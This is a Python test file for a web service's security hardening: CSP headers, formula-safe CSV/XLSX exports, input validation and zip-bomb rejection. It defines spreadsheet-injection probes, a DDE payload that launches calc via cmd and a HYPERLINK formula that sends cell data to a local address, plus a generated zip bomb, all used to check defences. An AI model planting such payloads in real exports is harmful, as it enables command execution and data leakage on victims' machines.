"""Web side of issue 10's input/output items: headers, formula-safe exports, bad input never 500.

Library and CLI cases (archives, the bomb, the exporters) are in ``tests/test_security_io.py``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import openpyxl
import pytest
from sqlalchemy import text
from webhelpers import (
    COMMUNITY_A,
    COMMUNITY_B,
    bearer,
    count,
    csrf_token,
    login_form,
    owner_engine,
)

from gridsvc.pairing import service

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def upload(client, web, who: str, name: str, body: bytes, layer: str = "households"):
    return client.post(
        "/api/imports",
        data={"layer": layer, "crs": "4326", "file": (io.BytesIO(body), name)},
        headers=bearer(web, who),
        content_type="multipart/form-data",
    )


def import_logs(web, source: str) -> int:
    return count(web, f"SELECT count(*) FROM import_log WHERE source = '{source}'")


# --- headers (item 9) --------------------------------------------------------------------------


def test_security_headers_on_every_response(client, web):
    login_form(client, "viewer_a")
    responses = {
        "/login": client.get("/login"),
        "/": client.get("/"),
        "/map/frame": client.get(f"/map/frame?community={COMMUNITY_A}"),
        "/api/me": client.get("/api/me", headers=bearer(web, "viewer_a")),
        "404": client.get("/no/such/page"),
    }
    for url, response in responses.items():
        headers = response.headers
        csp = headers.get("Content-Security-Policy", "")
        for directive in (
            "default-src 'self'",
            "connect-src 'self'",
            "frame-ancestors 'self'",
            "object-src 'none'",
            "base-uri 'self'",
            "form-action 'self'",
        ):
            assert directive in csp, (url, csp)
        assert "script-src 'self' 'nonce-" in csp and "unsafe-inline' ;" not in csp
        assert "'unsafe-eval'" not in csp
        assert headers["X-Frame-Options"] == "SAMEORIGIN", url
        assert headers["X-Content-Type-Options"] == "nosniff", url
        assert headers["Referrer-Policy"] == "same-origin", url
        assert headers["Cache-Control"] == "no-store", url
    frame = responses["/map/frame"].get_data(as_text=True)
    nonce = responses["/map/frame"].headers["Content-Security-Policy"].split("'nonce-")[1]
    nonce = nonce.split("'")[0]
    assert frame.count("<script") == frame.count(f'<script nonce="{nonce}"') > 0


def test_tile_server_origin_is_allowed_for_images(web):
    from gridsvc.web import create_app

    settings = web.settings.with_(tiles="https://tiles.intranet.example:8443/{z}/{x}/{y}.png")
    app = create_app({"TESTING": True, "GRIDSVC_SETTINGS": settings, "GRIDSVC_NO_QUEUE": True})
    try:
        csp = app.test_client().get("/login").headers["Content-Security-Policy"]
    finally:
        app.extensions["gridsvc.engine"].dispose()
    assert "img-src 'self' data: https://tiles.intranet.example:8443;" in csp


def test_exports_are_not_stored(client, web):
    for url in (f"/api/roster.csv?community={COMMUNITY_A}", f"/api/roster?community={COMMUNITY_A}"):
        response = client.get(url, headers=bearer(web, "viewer_a"))
        assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"


def test_405_names_the_allowed_methods(client, web):
    response = client.delete("/api/me", headers=bearer(web, "viewer_a"))
    assert response.status_code == 405
    assert "GET" in response.headers["Allow"]
    assert response.get_json()["error"] == "MethodNotAllowed"


# --- formula injection in the web exports (item 3) ---------------------------------------------


@pytest.fixture
def poisoned_pair(web) -> Iterator[str]:
    """A paired household of community A whose code, name and phone are the probe's payloads,
    and its member's name (restored afterwards)."""
    engine = owner_engine(web)
    with engine.begin() as conn:
        cid = conn.scalar(text("SELECT id FROM communities WHERE code = :c"), {"c": COMMUNITY_A})
        if service.plan_version(conn, cid) == 0:
            service.run_pairing(
                conn, settings=web.settings, community_code=COMMUNITY_A, level="households"
            )
        row = conn.execute(
            text(
                "SELECT h.id, h.code, h.name, h.phone, m.id AS mid, m.name AS mname "
                "FROM current_household_pairs p JOIN households h ON h.id = p.household_id "
                "JOIN members m ON m.id = p.member_id WHERE p.community_id = :c LIMIT 1"
            ),
            {"c": cid},
        ).one()
        conn.execute(
            text("UPDATE households SET code = :code, name = :name, phone = :phone WHERE id = :i"),
            {"code": HYPERLINK, "name": HYPERLINK, "phone": DDE, "i": row.id},
        )
        conn.execute(text("UPDATE members SET name = :n WHERE id = :i"), {"n": DDE, "i": row.mid})
    yield HYPERLINK
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE households SET code = :code, name = :name, phone = :phone WHERE id = :i"),
            {"code": row.code, "name": row.name, "phone": row.phone, "i": row.id},
        )
        conn.execute(
            text("UPDATE members SET name = :n WHERE id = :i"), {"n": row.mname, "i": row.mid}
        )
    engine.dispose()


@pytest.mark.parametrize("unmasked", ["", "&unmasked=true"])
def test_roster_exports_have_no_formula(client, web, poisoned_pair, unmasked):
    h = bearer(web, "planner_a")
    xlsx = client.get(f"/api/roster.xlsx?community={COMMUNITY_A}{unmasked}", headers=h)
    assert xlsx.status_code == 200, xlsx.data[:300]
    book = openpyxl.load_workbook(io.BytesIO(xlsx.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert HYPERLINK in {c.value for c in cells}  # the code, kept as text
    if unmasked:
        assert DDE in {c.value for c in cells}
    for table in ("households", "members"):
        data = client.get(
            f"/api/roster.csv?community={COMMUNITY_A}&table={table}{unmasked}", headers=h
        )
        assert data.status_code == 200
        rows = csv.reader(io.StringIO(data.data.decode("utf-8-sig"), newline=""))
        values = [v for row in rows for v in row]
        assert not [v for v in values if v.startswith(RISKY)]
        if table == "households":
            assert "'" + HYPERLINK in values


# --- bad input never answers 500 (items 8 and 11) ----------------------------------------------


def test_csv_field_with_nul_is_a_named_reject_with_an_import_log_row(client, web):
    body = (
        "code,size,building_code,community_code,lon,lat\n"
        f"H-NUL-1,2,B-ZZ-1,{COMMUNITY_B},102.6011,25.0011\n"
        f"H-NUL-2,2,B-ZZ-1\x00x,{COMMUNITY_B},102.6011,25.0011\n"
    ).encode()
    before = import_logs(web, "nul.csv")
    response = upload(client, web, "admin_b", "nul.csv", body)
    assert response.status_code == 422, response.data[:500]
    reject = response.get_json()["details"][0]
    assert (reject["record"], reject["field"]) == (2, "building_code")
    assert "control character" in reject["reason"]
    assert import_logs(web, "nul.csv") == before + 1
    assert count(web, "SELECT count(*) FROM households WHERE code LIKE 'H-NUL-%'") == 0


def test_codes_and_lengths_are_checked(client, web):
    long_name = "名" * 101
    body = (
        "code,name,size,building_code,community_code,lon,lat\n"
        f"H/1,甲,2,B-ZZ-1,{COMMUNITY_B},102.6011,25.0011\n"
        f"{'H' * 65},乙,2,B-ZZ-1,{COMMUNITY_B},102.6011,25.0011\n"
        f"H-LONG-3,{long_name},2,B-ZZ-1,{COMMUNITY_B},102.6011,25.0011\n"
    ).encode()
    response = upload(client, web, "admin_b", "codes.csv", body)
    assert response.status_code == 422, response.data[:500]
    found = {(r["record"], r["field"]): r["reason"] for r in response.get_json()["details"]}
    assert "letters, digits" in found[(1, "code")]
    assert "65 characters, more than the 64 allowed" in found[(2, "code")]
    assert "101 characters, more than the 100 allowed" in found[(3, "name")]
    assert count(web, "SELECT count(*) FROM households WHERE code = 'H/1'") == 0


def test_admin_importing_rows_of_another_street_gets_them_named(client, web):
    engine = owner_engine(web)
    with engine.connect() as conn:
        lon, lat = conn.execute(
            text(
                "SELECT ST_X(h.geom), ST_Y(h.geom) FROM households h JOIN communities c "
                "ON c.id = h.community_id WHERE c.code = :c LIMIT 1"
            ),
            {"c": COMMUNITY_A},
        ).one()
        existing = conn.scalar(
            text(
                "SELECT h.code FROM households h JOIN communities c ON c.id = h.community_id "
                "WHERE c.code = :c LIMIT 1"
            ),
            {"c": COMMUNITY_A},
        )
    engine.dispose()
    body = (f"code,size,lon,lat\nH-OUT-1,2,102.6011,25.0011\nH-OUT-2,2,{lon},{lat}\n").encode()
    response = upload(client, web, "admin_b", "outside.csv", body)
    assert response.status_code == 422, response.data[:500]
    rejects = response.get_json()["details"]
    assert [(r["record"], r["field"]) for r in rejects] == [(2, "geometry")]
    assert "outside your street" in rejects[0]["reason"]
    assert count(web, "SELECT count(*) FROM households WHERE code LIKE 'H-OUT-%'") == 0
    # a code that already names a household of street A: 403, nothing written
    body = f"code,size,lon,lat\n{existing},2,102.6011,25.0011\n".encode()
    before = import_logs(web, "taken.csv")
    response = upload(client, web, "admin_b", "taken.csv", body)
    assert response.status_code == 403, response.data[:500]
    assert "outside your scope" in response.get_json()["message"]
    assert import_logs(web, "taken.csv") == before + 1


@pytest.mark.parametrize("radius", ["abc", "-5", "0", "1e7", "nan", ""])
def test_blindspot_radius_is_checked(app, web, radius):
    client = app.test_client()
    login_form(client, "planner_a")
    page = client.get(f"/blindspots?community={COMMUNITY_A}")
    token = csrf_token(page.get_data(as_text=True))
    response = client.post(
        f"/blindspots?community={COMMUNITY_A}", data={"radius_m": radius, "csrf_token": token}
    )
    assert response.status_code == 422, response.data[:300]
    assert "radius_m" in response.get_data(as_text=True)


def test_map_search_with_nul_or_a_long_query(app, web):
    client = app.test_client()
    login_form(client, "viewer_a")
    nul = client.get("/map?q=%00")
    assert nul.status_code == 422 and "&#39;q&#39;" in nul.get_data(as_text=True)
    assert client.get("/map?q=" + "x" * 65).status_code == 422
    api = client.get("/api/search?q=a%00b", headers=bearer(web, "viewer_a"))
    assert api.status_code == 422 and api.get_json()["details"][0]["field"] == "q"


def test_one_queued_pairing_job_per_planner_and_scope(client, web):
    from gridsvc.jobs import execute_job

    h = bearer(web, "planner_a")
    ask = {"kind": "pairing", "community": COMMUNITY_A}
    first = client.post("/api/jobs", json=ask, headers=h)
    assert first.status_code == 202, first.data[:300]
    again = client.post("/api/jobs", json=ask, headers=h)
    assert again.status_code == 202 and again.get_json()["existing"] is True
    assert again.get_json()["id"] == first.get_json()["id"]
    other = client.post("/api/jobs", json=ask, headers=bearer(web, "planner_a2"))
    assert other.get_json()["id"] != first.get_json()["id"]  # another planner's own job
    for body in (first.get_json(), other.get_json()):
        execute_job(web.settings, body["id"], here=True)  # its communities too, no worker
    after = client.post("/api/jobs", json=ask, headers=h)
    assert after.get_json()["existing"] is False
    assert after.get_json()["id"] != first.get_json()["id"]
    execute_job(web.settings, after.get_json()["id"], here=True)


def test_zip_bomb_upload_is_refused_unread(client, web, tmp_path):
    from io_helpers import shapefile_bomb

    bomb = shapefile_bomb(tmp_path / "bomb.zip", padding=256 << 20)  # 256 MB of zeros, ~0.3 MB
    before = import_logs(web, "bomb.zip")
    response = upload(client, web, "admin_b", "bomb.zip", bomb.read_bytes(), layer="stations")
    assert response.status_code == 422, response.data[:500]
    reason = response.get_json()["details"][0]["reason"]
    assert "'s.dbf' would grow" in reason and "GRIDSVC_MAX_ZIP_RATIO" in reason
    assert import_logs(web, "bomb.zip") == before + 1


def test_a_second_ask_waits_for_the_first_and_gets_its_job(web):
    """Two transactions asking at once: the second blocks on the advisory lock until the first
    commits its job, then finds it (without the lock both would find none and queue two)."""
    import threading

    from gridsvc.jobs import active_job, create_job

    engine = owner_engine(web)
    with engine.connect() as conn:
        user = conn.scalar(text("SELECT id FROM users WHERE username = 'planner_a'"))
        street = conn.scalar(text("SELECT id FROM streets WHERE code = '530102001'"))
    scope = {"user_id": user, "street_id": street, "community_id": None}
    found: list = []
    first = engine.connect()
    first.begin()
    try:
        assert active_job(first, "pairing", **scope) is None
        job = create_job(first, "pairing", params={}, **scope)

        def second() -> None:
            with engine.begin() as conn:
                found.append(active_job(conn, "pairing", **scope))

        thread = threading.Thread(target=second)
        thread.start()
        thread.join(timeout=1.0)
        assert thread.is_alive() and found == []  # waiting on the first's lock
        first.commit()
        thread.join(timeout=10)
        assert found == [(job, "queued")]
    finally:
        first.close()
        with engine.begin() as conn:
            conn.execute(text("DELETE FROM jobs WHERE id = :i"), {"i": job})
        engine.dispose()
